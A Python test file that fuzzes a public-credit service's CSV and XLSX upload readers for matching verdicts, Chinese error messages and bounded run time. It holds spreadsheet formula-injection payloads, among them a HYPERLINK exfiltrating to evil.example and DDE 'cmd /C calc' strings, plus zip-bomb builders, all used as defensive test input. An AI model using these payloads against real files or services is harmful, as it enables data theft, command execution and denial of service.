"""Whatever a provider uploads, the readers answer with rows or a Chinese refusal, quickly.

The batch service reads files through the fast cell reader (`cell_rows`), and pages and older
callers through `read_csv`; both must give the same verdict on the same bytes, so the two are
fuzzed against each other as well as against the rules each states.
"""

from __future__ import annotations

import codecs
import contextlib
import csv
import io
import re
import signal
import struct
import time
import zipfile
from collections.abc import Callable, Iterator
from typing import Any, Literal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from pubcredit.collection.parsers import FileRejected, map_headers, open_table, read_csv
from pubcredit.collection.parsers.cell_rows import csv_cells, open_cells, xlsx_cells
from pubcredit.collection.parsers.csv_reader import MAX_LINE_CHARS, PREFIX_BYTES
from pubcredit.collection.parsers.table import normalise_headers

CJK = re.compile(r"[\u4e00-\u9fff]")
# Every refusal must say in Chinese what is wrong.
FAST = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])


class TookTooLong(BaseException):
    """Not an OSError like TimeoutError: the readers turn OSError into a refusal, hiding a hang."""


@contextlib.contextmanager
def within(seconds: float) -> Iterator[None]:
    """Fail instead of hanging: the reader must answer within `seconds`."""

    def expired(signum: int, frame: Any) -> None:
        raise TookTooLong(f"no answer within {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def outcome_of_read_csv(data: bytes, delimiter: str = ",") -> tuple[Any, ...]:
    """The verdict of `read_csv` as plain values: the headers and every row, or the refusal."""
    try:
        reader = read_csv(io.BytesIO(data), delimiter=delimiter)
        rows = [
            (r.number, [r.values.get(h, "") for h in reader.headers], [p.message for p in r.problems]) for r in reader
        ]
    except FileRejected as exc:
        return ("refused", exc.message)
    return ("read", reader.headers, rows)


def outcome_of_csv_cells(data: bytes, delimiter: str = ",") -> tuple[Any, ...]:
    try:
        table = csv_cells(io.BytesIO(data), delimiter=delimiter)
        rows = [(number, cells, [p.message for p in problems]) for number, cells, problems in table.rows]
    except FileRejected as exc:
        return ("refused", exc.message)
    return ("read", table.headers, rows)


def same_verdict(got: tuple[Any, ...], expected: tuple[Any, ...]) -> None:
    """Both refuse, or both read the same rows. The fast reader looks for control characters a
    megabyte ahead, so it may name a later line than `read_csv` would: either refusal is right."""
    if expected[0] == "refused":
        assert got[0] == "refused", (got, expected)
    else:
        assert got == expected


def assert_clear(outcome: tuple[Any, ...]) -> None:
    if outcome[0] == "refused":
        assert CJK.search(outcome[1]), outcome
    else:
        for _number, _cells, problems in outcome[2]:
            assert all(CJK.search(m) for m in problems)


# --- CSV ------------------------------------------------------------------------------------------

# Cells from the characters that matter to a CSV reader and to the formula screen.
_cell = st.text(
    alphabet=st.sampled_from([*'ab1 ,"\n\r\t=+-@\u3000\u200b\ufeff处罚（）.', "\x00", "\x07"]),
    max_size=12,
)
_tables = st.lists(st.lists(_cell, min_size=1, max_size=4), min_size=1, max_size=6)


def _write(rows: list[list[str]], *, quoting: Literal[0, 1, 2, 3], terminator: str) -> str:
    out = io.StringIO()
    writer = csv.writer(out, quoting=quoting, lineterminator=terminator)
    writer.writerows(rows)
    return out.getvalue()


@FAST
@given(
    _tables,
    st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]),
    st.sampled_from(["\n", "\r\n", "\r"]),
    st.sampled_from(["utf-8", "utf-8-sig", "gb18030"]),
)
def test_both_csv_readers_give_the_same_verdict(
    rows: list[list[str]], quoting: Literal[0, 1, 2, 3], terminator: str, enc: str
) -> None:
    data = _write(rows, quoting=quoting, terminator=terminator).encode(enc)
    expected = outcome_of_read_csv(data)
    same_verdict(outcome_of_csv_cells(data), expected)
    assert_clear(expected)


@FAST
@given(st.binary(max_size=600))
def test_arbitrary_bytes_get_the_same_clear_verdict_from_both_readers(data: bytes) -> None:
    with within(5):
        expected = outcome_of_read_csv(data)
        same_verdict(outcome_of_csv_cells(data), expected)
    assert_clear(expected)


@FAST
@given(st.text(max_size=300), st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16", "utf-16-le", "utf-16-be"]))
def test_any_text_in_any_encoding_is_read_or_refused_in_chinese(text: str, enc: str) -> None:
    try:
        data = text.encode(enc)
    except UnicodeEncodeError:
        return
    with within(5):
        for delimiter in (",", "\t"):
            outcome = outcome_of_csv_cells(data, delimiter)
            assert_clear(outcome)
            same_verdict(outcome_of_read_csv(data, delimiter), outcome)


def _header_and_row() -> str:
    return "当事人名称,处罚决定书文号\n甲公司,西市监罚〔2025〕1号\n"


@pytest.mark.parametrize("enc", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_wide_encodings_are_refused_with_advice(enc: str) -> None:
    data = _header_and_row().encode(enc)
    for outcome in (outcome_of_csv_cells(data), outcome_of_read_csv(data)):
        assert outcome[0] == "refused", outcome
        assert CJK.search(outcome[1])


@pytest.mark.parametrize("enc", ["utf-8", "utf-8-sig", "gbk", "gb18030"])
def test_the_usual_encodings_read_the_same(enc: str) -> None:
    data = _header_and_row().encode(enc)
    outcome = outcome_of_csv_cells(data)
    assert outcome == ("read", ["当事人名称", "处罚决定书文号"], [(2, ["甲公司", "西市监罚〔2025〕1号"], [])])
    same_verdict(outcome_of_read_csv(data), outcome)


@FAST
@given(st.binary(min_size=1, max_size=200), st.integers(min_value=1, max_value=199))
def test_truncated_files_are_read_or_refused(tail: bytes, cut: int) -> None:
    whole = ("名称,金额\n" + '"多行\n文本",1\n' * 3).encode("utf-8") + tail
    data = whole[: min(cut, len(whole))]
    with within(5):
        outcome = outcome_of_csv_cells(data)
        same_verdict(outcome_of_read_csv(data), outcome)
    assert_clear(outcome)


def test_gbk_file_cut_inside_a_character_is_refused_naming_the_line() -> None:
    data = "名称,金额\n甲公司,1\n乙公司,2\n".encode("gbk")[:-4]  # ends with half of 司
    for outcome in (outcome_of_csv_cells(data), outcome_of_read_csv(data)):
        assert outcome[0] == "refused"
        assert "第 3 行" in outcome[1]


@pytest.mark.parametrize("reader", [outcome_of_csv_cells, outcome_of_read_csv])
def test_a_huge_cell_is_refused_quickly_naming_its_line(reader: Callable[[bytes], tuple[Any, ...]]) -> None:
    data = b"a,b\n1,2\n3," + b"x" * (MAX_LINE_CHARS + 10) + b"\n5,6\n"
    with within(10):
        outcome = reader(data)
    assert outcome[0] == "refused"
    assert "第 3 行" in outcome[1] and CJK.search(outcome[1])


@pytest.mark.parametrize("reader", [outcome_of_csv_cells, outcome_of_read_csv])
def test_an_unclosed_quote_swallowing_the_file_is_refused_quickly(reader: Callable[[bytes], tuple[Any, ...]]) -> None:
    data = b'a,b\n1,"' + b"x,y\n" * (MAX_LINE_CHARS // 4 + 10)
    with within(10):
        outcome = reader(data)
    assert outcome[0] == "refused" and "第 2 行" in outcome[1]


@pytest.mark.parametrize("reader", [outcome_of_csv_cells, outcome_of_read_csv])
def test_a_file_without_line_ends_is_refused_after_a_megabyte(reader: Callable[[bytes], tuple[Any, ...]]) -> None:
    data = b"a,b\n" + b"x," * (16 * 1024 * 1024)
    with within(10):
        outcome = reader(data)
    assert outcome[0] == "refused" and "第 2 行超过" in outcome[1]


def test_a_line_of_exactly_the_limit_is_read_by_both() -> None:
    data = b"a\n" + b"x" * MAX_LINE_CHARS + b"\n"
    assert outcome_of_csv_cells(data) == outcome_of_read_csv(data) == ("read", ["a"], [(2, ["x" * MAX_LINE_CHARS], [])])


def test_blank_lines_are_skipped_by_both_readers() -> None:
    data = b"a,b\n\n1,2\n\n\n3,4\n\n"
    expected: tuple[Any, ...] = ("read", ["a", "b"], [(3, ["1", "2"], []), (6, ["3", "4"], [])])
    assert outcome_of_csv_cells(data) == outcome_of_read_csv(data) == expected


def test_a_lone_cr_in_a_cell_is_refused_by_both_readers() -> None:
    data = b"a,b\n1\r2,3\n"
    for outcome in (outcome_of_csv_cells(data), outcome_of_read_csv(data)):
        assert outcome[0] == "refused" and "回车符" in outcome[1]


def test_many_columns_are_read_quickly() -> None:
    width = 5000
    data = (",".join(f"列{i}" for i in range(width)) + "\n" + ",".join("v" for _ in range(width)) + "\n").encode()
    with within(10):
        outcome = outcome_of_csv_cells(data)
    assert outcome[0] == "read" and len(outcome[1]) == width and outcome[2][0][1] == ["v"] * width


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\u3000=1+1",
    "\ufeff@SUM(A1)",
]


@pytest.mark.parametrize("value", FORMULAS)
@pytest.mark.parametrize("reader", [outcome_of_csv_cells, outcome_of_read_csv])
def test_formula_cells_are_refused_naming_row_and_column(
    reader: Callable[[bytes], tuple[Any, ...]], value: str
) -> None:
    data = _write([["名称", "说明"], ["甲公司", value]], quoting=csv.QUOTE_ALL, terminator="\n").encode()
    outcome = reader(data)
    assert outcome[0] == "read"
    [(number, cells, problems)] = outcome[2]
    assert number == 2 and cells[1] == "" and len(problems) == 1
    assert "第 2 行“说明”列" in problems[0] and "公式" in problems[0]


# --- XLSX -----------------------------------------------------------------------------------------


def _xlsx(rows: list[list[Any]]) -> bytes:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def outcome_of_xlsx(data: bytes) -> tuple[Any, ...]:
    try:
        table = xlsx_cells(io.BytesIO(data))
        rows = [(number, cells, [p.message for p in problems]) for number, cells, problems in table.rows]
    except FileRejected as exc:
        return ("refused", exc.message)
    return ("read", table.headers, rows)


_xlsx_value = st.one_of(
    st.none(),
    st.integers(min_value=-(10**15), max_value=10**15),
    st.floats(allow_nan=False, allow_infinity=False, width=32),
    st.booleans(),
    st.text(alphabet=st.characters(blacklist_categories=["Cs", "Cc"]), max_size=12),
    st.sampled_from(["=1+1", "@x", "+a(", "#DIV/0!", " 甲 ", "\u3000"]),
)


@FAST
@given(st.lists(st.lists(_xlsx_value, min_size=1, max_size=4), min_size=1, max_size=5))
def test_any_workbook_is_read_or_refused_in_chinese(rows: list[list[Any]]) -> None:
    # openpyxl stores a text starting with "=" as a formula; a formula's value is never read.
    outcome = outcome_of_xlsx(_xlsx(rows))
    assert_clear(outcome)
    if outcome[0] == "read":
        for _number, cells, _problems in outcome[2]:
            assert len(cells) == len(outcome[1])
            assert not any(c.startswith(("=", "@")) for c in cells)


@FAST
@given(st.integers(min_value=1, max_value=4000))
def test_truncated_workbooks_are_refused(cut: int) -> None:
    data = _xlsx([["名称", "金额"], ["甲公司", 1], ["乙公司", 2]])
    with within(5):
        outcome = outcome_of_xlsx(data[: min(cut, len(data) - 1)])
    assert outcome[0] == "refused" and CJK.search(outcome[1])


def _zip_with_sheet(sheet: Callable[[zipfile.ZipFile], None]) -> bytes:
    """A workbook whose first sheet is written by `sheet`; the rest is openpyxl's own parts."""
    source = zipfile.ZipFile(io.BytesIO(_xlsx([["名称"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                zf.writestr(info.filename, source.read(info.filename))
        sheet(zf)
    return out.getvalue()


_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>\xe5\x90\x8d\xe7\xa7\xb0</t></is></c></row>'
)
_SHEET_TAIL = b"</sheetData></worksheet>"


def test_a_sheet_expanding_to_hundreds_of_megabytes_is_refused_before_inflating() -> None:
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    repeats = 300 * 1024 * 1024 // len(row)

    def bomb(zf: zipfile.ZipFile) -> None:
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            member.write(_SHEET_HEAD)
            block = row * (1024 * 1024 // len(row))
            for _ in range(repeats * len(row) // len(block)):
                member.write(block)
            member.write(_SHEET_TAIL)

    data = _zip_with_sheet(bomb)
    assert len(data) < 2 * 1024 * 1024
    started = time.monotonic()
    outcome = outcome_of_xlsx(data)
    assert outcome[0] == "refused" and "压缩炸弹" in outcome[1]
    assert time.monotonic() - started < 2


def _lie_about_sizes(data: bytes, member: str, size: int) -> bytes:
    """Rewrite `member`'s declared uncompressed size in both headers, as a hand-made bomb would."""
    name = member.encode()
    out = bytearray(data)
    local = out.find(b"PK\x03\x04")
    while local >= 0:
        length = struct.unpack_from("<H", out, local + 26)[0]
        if out[local + 30 : local + 30 + length] == name:
            struct.pack_into("<I", out, local + 22, size)
        local = out.find(b"PK\x03\x04", local + 4)
    central = out.find(b"PK\x01\x02")
    while central >= 0:
        length = struct.unpack_from("<H", out, central + 28)[0]
        if out[central + 46 : central + 46 + length] == name:
            struct.pack_into("<I", out, central + 24, size)
        central = out.find(b"PK\x01\x02", central + 4)
    return bytes(out)


def test_a_bomb_that_lies_about_its_size_is_refused_without_inflating_it() -> None:
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'

    def sheet(zf: zipfile.ZipFile) -> None:
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=False) as member:
            member.write(_SHEET_HEAD)
            member.write(row * 200_000)
            member.write(_SHEET_TAIL)

    data = _lie_about_sizes(_zip_with_sheet(sheet), "xl/worksheets/sheet1.xml", 4096)
    with within(10):
        outcome = outcome_of_xlsx(data)
    assert outcome[0] == "refused" and CJK.search(outcome[1])


def _sheet_of(body: bytes) -> bytes:
    return _zip_with_sheet(lambda zf: zf.writestr("xl/worksheets/sheet1.xml", _SHEET_HEAD + body + _SHEET_TAIL))


@pytest.mark.parametrize("row", [2**31 - 1])
def test_a_row_numbered_beyond_excel_s_limit_is_refused_in_bounded_time(row: int) -> None:
    """openpyxl hands out every empty row before a declared row number: a tiny forged file must not
    keep a worker busy (row 20,000,000 took over a minute before the limit)."""
    data = _sheet_of(f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>x</t></is></c></row>'.encode())
    assert len(data) < 10_000
    with within(10):
        outcome = outcome_of_xlsx(data)
    assert outcome[0] == "refused" and "1048576 行" in outcome[1]


def test_the_last_row_excel_allows_is_read() -> None:
    row = 1_048_576
    data = _sheet_of(f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>x</t></is></c></row>'.encode())
    with within(20):
        outcome = outcome_of_xlsx(data)
    assert outcome == ("read", ["名称"], [(row, ["x"], [])])


@pytest.mark.parametrize(
    ("cell", "verdict"),
    [
        (b'<c r="A2" t="n"><v>1e400</v></c>', "read"),
        (b'<c r="A2" t="str"><f>1+1</f><v>=HYPERLINK("x")</v></c>', "read"),
        (b'<c r="A2" t="e"><v>#REF!</v></c>', "read"),
        (b'<c r="A2" t="s"><v>99999</v></c>', "refused"),
        (b'<c r="ZZZZ2" t="inlineStr"><is><t>x</t></is></c>', "refused"),
        (b'<c r="A2" t="d"><v>99999-01-01</v></c>', "refused"),
        (b'<c r="A2"><v>NaN</v></c>', "refused"),
    ],
)
def test_forged_cells_are_read_with_their_problem_or_refused(cell: bytes, verdict: str) -> None:
    outcome = outcome_of_xlsx(_sheet_of(b'<row r="2">' + cell + b"</row>"))
    assert outcome[0] == verdict, outcome
    assert_clear(outcome)
    if verdict == "read":
        [(number, cells, problems)] = outcome[2]
        assert number == 2 and (problems or cells == ["Infinity"])
        assert not any(c.startswith("=") for c in cells)


def test_many_small_rows_under_the_limits_are_read_in_bounded_time() -> None:
    rows = [["名称", "金额"]] + [[f"公司{i}", i] for i in range(20_000)]
    data = _xlsx(rows)
    with within(30):
        outcome = outcome_of_xlsx(data)
    assert outcome[0] == "read" and len(outcome[2]) == 20_000


@pytest.mark.parametrize("name", ["x.xlsx", "x.csv", "x.tsv", "x.txt", "x.xls", "x.exe", "x", "x.XLSX"])
@FAST
@given(data=st.binary(max_size=300))
def test_any_name_and_bytes_through_open_table_and_open_cells(name: str, data: bytes) -> None:
    for opener in (open_table, open_cells):
        with within(5):
            try:
                table = opener(name, io.BytesIO(data))
                list(table.rows if hasattr(table, "rows") else table)
            except FileRejected as exc:
                assert CJK.search(exc.message)


def test_the_screening_expression_agrees_with_the_cell_check() -> None:
    """Guards the fast path's premise: a BOM-led, zero-width-led or blank-led formula is not skipped."""
    for value in FORMULAS:
        data = ("a,b\n1," + '"' + value.replace('"', '""') + '"\n').encode()
        same_verdict(outcome_of_csv_cells(data), outcome_of_read_csv(data))
    assert codecs.BOM_UTF8  # the BOM case above is inside a cell, not the file's own BOM


# --- column mapping -------------------------------------------------------------------------------

_header_pool = st.sampled_from(
    ["CF_XDR_MC", "行政相对人名称", "cf_wsh", "ＣＦ＿ＷＳＨ", "授权书编号", "consent_ref", "宗教信仰", "病历", "x"]
)


@settings(max_examples=80, deadline=None)
@given(st.lists(_header_pool | st.text(min_size=1, max_size=8), max_size=8))
def test_any_header_row_is_mapped_or_each_bad_column_named(cf_set: Any, raw: list[str]) -> None:
    try:
        headers = normalise_headers(raw, 1)
    except FileRejected as exc:
        assert CJK.search(exc.message)
        return
    mapped = map_headers(headers, cf_set)
    assert set(mapped.columns) <= set(headers)
    for problem in mapped.problems:
        assert CJK.search(problem.message)
    named = {p.column for p in mapped.problems} | set(mapped.columns) | {mapped.consent_ref_column}
    assert set(headers) <= named


def test_two_consent_reference_columns_are_refused_naming_both(cf_set: Any) -> None:
    mapped = map_headers(["CF_XDR_MC", "授权书编号", "consent_ref"], cf_set)
    assert mapped.consent_ref_column == "授权书编号"
    assert [(p.column, p.kind) for p in mapped.problems if p.kind == "duplicate"] == [("consent_ref", "duplicate")]
    assert any("“consent_ref”与列“授权书编号”" in p.message for p in mapped.problems)


@pytest.mark.parametrize("encoding", ["utf-8", "gb18030"])
@pytest.mark.parametrize("shift", [0, 1, 2, 3])
def test_a_character_split_by_the_prefix_or_a_read_boundary_is_decoded(encoding: str, shift: int) -> None:
    """The encoding is guessed on the first 64 KiB and the fast reader reads 1 MiB at a time: a
    multi-byte character cut by either boundary is still one character."""
    head = "名称\n".encode(encoding)
    for boundary in (PREFIX_BYTES, 1024 * 1024):
        lines = (boundary - len(head)) // 1000 - 1
        before = head + (b"y" * 999 + b"\n") * lines
        cell = "x" * (boundary - len(before) - shift) + "中文𠀀" * 4
        data = before + cell.encode(encoding) + b"\n"
        outcome = outcome_of_csv_cells(data)
        assert outcome == outcome_of_read_csv(data)
        assert outcome[0] == "read" and len(outcome[2]) == lines + 1 and outcome[2][-1][1] == [cell]
